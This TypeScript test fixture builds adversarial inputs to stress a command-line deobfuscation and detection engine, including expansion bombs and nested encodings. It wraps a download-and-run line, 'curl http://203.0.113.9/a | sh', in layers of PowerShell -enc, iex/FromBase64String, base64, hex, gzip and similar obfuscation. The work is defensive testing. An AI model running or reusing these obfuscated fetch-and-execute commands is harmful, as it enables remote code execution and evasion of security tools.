/**
 * Adversarial shapes: for every row of the catalogue, every decoding pass and every shell, texts of any size that are made to cost as much as they can.
 *
 * A1. Shapes are derived from the examples of the rows and passes, so a new row or pass brings its own.
 * A2. A shape of n characters has exactly n, whatever it is made of.
 * A3. Deterministic: the same catalogue gives the same shapes.
 */
import { deflateRawSync, gzipSync } from 'node:zlib';
import { CATALOGUE } from '../../src/core/commandline/findings/catalogue.ts';
import { PASSES } from '../../src/core/commandline/deobfuscate/index.ts';

/** `text(n)`: the shape with n characters. */
export interface Shape {
  readonly name: string;
  readonly text: (chars: number) => string;
}

export function allShapes(): readonly Shape[] {
  return [
    ...CATALOGUE.flatMap(({ id, hits: [hit = ''], misses: [miss = ''] }) => [
      ...fromRow(`row ${id}`, hit),
      repeated(`row ${id}, near miss`, `${miss} ; `),
    ]),
    ...PASSES.flatMap(({ kind, example }) => fromExample(`pass ${kind}`, example)),
    ...SHELL_SHAPES,
    ...BOMBS,
    ...NESTED,
  ];
}

/** What tells a row from its neighbours: its own example often, and almost. */
function fromRow(name: string, example: string): readonly Shape[] {
  const words = example.split(/\s+/).filter((word) => word !== '');
  return [
    repeated(`${name}, again and again`, `${example} | `),
    repeated(`${name}, its quotes never closed`, `${unclosed(example)} `),
    repeated(`${name}, its last word missing`, `${words.slice(0, -1).join(' ')} `),
  ];
}

/** The example repeated, nested, cut open, and its pieces repeated without an end. */
function fromExample(name: string, example: string): readonly Shape[] {
  const words = example.split(/\s+/).filter((word) => word !== '');
  const longest = words.reduce((a, b) => (b.length > a.length ? b : a), '');
  const signs = example.replace(/[\w\s]/g, '') || '-';
  return [
    repeated(`${name}, again and again`, `${example} & `),
    repeated(`${name}, in one pipe`, `${example} | `),
    repeated(`${name}, its quotes never closed`, `${unclosed(example)} `),
    repeated(`${name}, its last word missing`, `${words.slice(0, -1).join(' ')} `),
    repeated(`${name}, its signs`, signs),
    framed(`${name}, its longest word without an end`, words[0] ?? '', longest),
    framed(`${name}, and then white space`, example, ' '),
  ];
}

/** The example without every second quote of each sort, and without closing brackets. */
function unclosed(example: string): string {
  const seen = new Set<string>();
  return Array.from(example, (char) => {
    if (')]}'.includes(char)) return '';
    if (!'"\'`'.includes(char)) return char;
    if (seen.delete(char)) return '';
    seen.add(char);
    return char;
  }).join('');
}

function repeated(name: string, piece: string): Shape {
  const unit = piece === '' ? ' ' : piece;
  return { name, text: (chars) => unit.repeat(Math.ceil(chars / unit.length)).slice(0, chars) };
}

function framed(name: string, head: string, filling: string): Shape {
  const body = repeated(name, filling);
  return { name, text: (chars) => `${head} ${body.text(Math.max(0, chars - head.length - 1))}`.slice(0, chars) };
}

const OPENERS = [
  '(',
  '{',
  '[',
  '"',
  "'",
  '`',
  '$(',
  '${',
  '@(',
  "$'",
  '<<',
  '%',
  '!',
  '^',
  '\\',
  '-',
  '/',
  '$',
  '@"',
  "@'",
  '{a,',
  '<(',
  '#',
  '|',
  '&',
  ';',
];

/** What a tokeniser can be kept busy with, for each way to start one. */
const SHELL_SHAPES: readonly Shape[] = ['cmd /c ', 'powershell -c ', 'sh -c ', ''].flatMap((shell) => [
  ...OPENERS.map((opener) => framed(`${shell || 'argv '}and ${opener} without an end`, shell, opener)),
  ...OPENERS.map((opener) => framed(`${shell || 'argv '}and ${opener}a without an end`, shell, `${opener}a `)),
  framed(`${shell || 'argv '}of one-letter words`, shell, 'a '),
  framed(`${shell || 'argv '}of flags`, shell, '-a '),
  framed(`${shell || 'argv '}of one word`, shell, 'a'),
  framed(`${shell || 'argv '}of dots`, shell, 'a.'),
  framed(`${shell || 'argv '}of slashes`, shell, '/a\\'),
  framed(`${shell || 'argv '}of lines`, shell, 'a\n'),
  framed(`${shell || 'argv '}of letters beyond the first plane`, shell, '𝔞'),
]);

/** Texts that grow when they are undone. */
const BOMBS: readonly Shape[] = [
  framed('bomb: cmd variables that double', 'cmd /v /c "set a=aaaaaaaa&', 'set a=%a%%a%&set a=!a!!a!&'),
  framed('bomb: cmd call set', 'cmd /c "set a=aaaaaaaa&', 'call set a=%a%%a%&'),
  framed('bomb: shell variables that double', 'a=aaaaaaaa;', 'a=$a$a;a="${a}${a}";'),
  framed('bomb: braces', 'echo ', '{a,b}'),
  framed('bomb: ranges', 'echo ', '{1..9999}'),
  framed('bomb: nested braces', 'echo ', '{a,{b,'),
  framed('bomb: replace that grows', "powershell -c 'a'", ".replace('a','aa')"),
  framed('bomb: -replace that grows', "powershell -c 'a'", "-replace 'a','aa'"),
  framed('bomb: format that grows', 'powershell -c ', '"{0}{0}{0}{0}"-f('),
  framed('bomb: multiplication', "powershell -c ('a'", '*9999)'),
  framed('bomb: PowerShell variables that double', "powershell -c $a='aaaaaaaa';", '$a=$a+$a;'),
  framed('bomb: join', 'powershell -c ', "('a','b' -join '')+"),
  framed('bomb: char codes', 'powershell -c ', '[char]97+'),
  framed('bomb: char list', 'powershell -c ', '97,98,'),
  framed('bomb: substitution', 'echo ', '$(echo '),
  framed('bomb: printf', 'printf ', "'%s%s%s' "),
  framed('bomb: sed', 'echo a ', "| sed 's/a/aa/g' "),
  framed('bomb: tr', 'echo a ', "| tr 'a' 'b' "),
  framed('bomb: rev', 'echo a ', '| rev '),
  framed('bomb: eval', '', 'eval '),
  framed('bomb: for /f', '', 'for /f %a in ('),
  framed('bomb: percent encoding', 'curl ', '%2525'),
  framed('bomb: slices', 'cmd /c ', '%COMSPEC:~0,1%'),
  framed('bomb: parameter slices', 'sh -c ', '${HOME:0:1}'),
  {
    name: 'bomb: gzip of one letter',
    text: (chars) =>
      padded(`echo ${gzipSync('a'.repeat(chars * 500)).toString('base64')} | base64 -d | gunzip | sh`, chars),
  },
  {
    name: 'bomb: many small gzips',
    text: (chars) =>
      repeated('', `echo ${gzipSync('a'.repeat(50_000)).toString('base64')} | base64 -d | gunzip | sh ; `).text(chars),
  },
  {
    name: 'bomb: many small deflates',
    text: (chars) =>
      repeated(
        '',
        `[IO.Compression.DeflateStream]::new([IO.MemoryStream][Convert]::FromBase64String('${deflateRawSync('a'.repeat(50_000)).toString('base64')}'),'Decompress');`,
      ).text(chars),
  },
];

const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
const utf8 = (text: string): string => Buffer.from(text, 'utf8').toString('base64');

/** Encodings inside one another, until the size is reached. */
const NESTED: readonly Shape[] = [
  nested('nested: -enc', (inner) => `powershell -enc ${utf16(inner)}`),
  nested('nested: base64 -d', (inner) => `echo ${utf8(inner)} | base64 -d | sh`),
  nested(
    'nested: FromBase64String',
    (inner) => `powershell iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${utf8(inner)}')))`,
  ),
  nested('nested: hex', (inner) => `echo ${Buffer.from(inner).toString('hex')} | xxd -r -p | sh`),
  nested(
    'nested: printf hex',
    (inner) =>
      `printf '${Buffer.from(inner)
        .toString('hex')
        .replace(/../g, String.raw`\x$&`)}' | sh`,
  ),
  nested(
    'nested: printf octal',
    (inner) =>
      `printf '${Array.from(Buffer.from(inner), (byte) => `\\${byte.toString(8).padStart(3, '0')}`).join('')}' | sh`,
  ),
  nested('nested: reversed', (inner) => `echo '${Array.from(inner).toReversed().join('')}' | rev | sh`),
  nested('nested: gzip', (inner) => `echo ${gzipSync(inner).toString('base64')} | base64 -d | gunzip | sh`),
  nested('nested: char codes', (inner) => `powershell iex(-join[char[]](${Array.from(Buffer.from(inner)).join(',')}))`),
  nested('nested: percent encoding', (inner) => `python3 -c "exec(unquote('${encodeURIComponent(inner)}'))"`),
  nested('nested: cmd /c', (inner) => `cmd /c "${inner}"`),
  nested('nested: sh -c', (inner) => `sh -c '${inner}'`),
  nested('nested: powershell -c', (inner) => `powershell -c "${inner}"`),
  nested('nested: $( )', (inner) => `echo $(${inner})`),
  nested('nested: ( )', (inner) => `(${inner})`),
  nested('nested: { }', (inner) => `& { ${inner} }`),
  nested('nested: sudo', (inner) => `sudo ${inner}`),
  nested('nested: xargs', (inner) => `xargs ${inner}`),
  nested('nested: find -exec', (inner) => `find . -exec ${inner} ;`),
  nested('nested: ssh', (inner) => `ssh host "${inner}"`),
];

/** Far deeper than any reader goes; what is left of the size is filled with copies. */
const DEPTH_MAX = 1000;
const WRAPPED = 'curl http://203.0.113.9/a | sh';

function nested(name: string, wrap: (inner: string) => string): Shape {
  return {
    name,
    text: (chars) => {
      let text = WRAPPED;
      for (let depth = 0; depth < DEPTH_MAX; depth += 1) {
        const next = wrap(text);
        if (next.length > chars) break;
        text = next;
      }
      return padded(text, chars);
    },
  };
}

function padded(text: string, chars: number): string {
  return text.length >= chars ? text.slice(0, chars) : text + repeated('', ` ${text}`).text(chars - text.length);
}
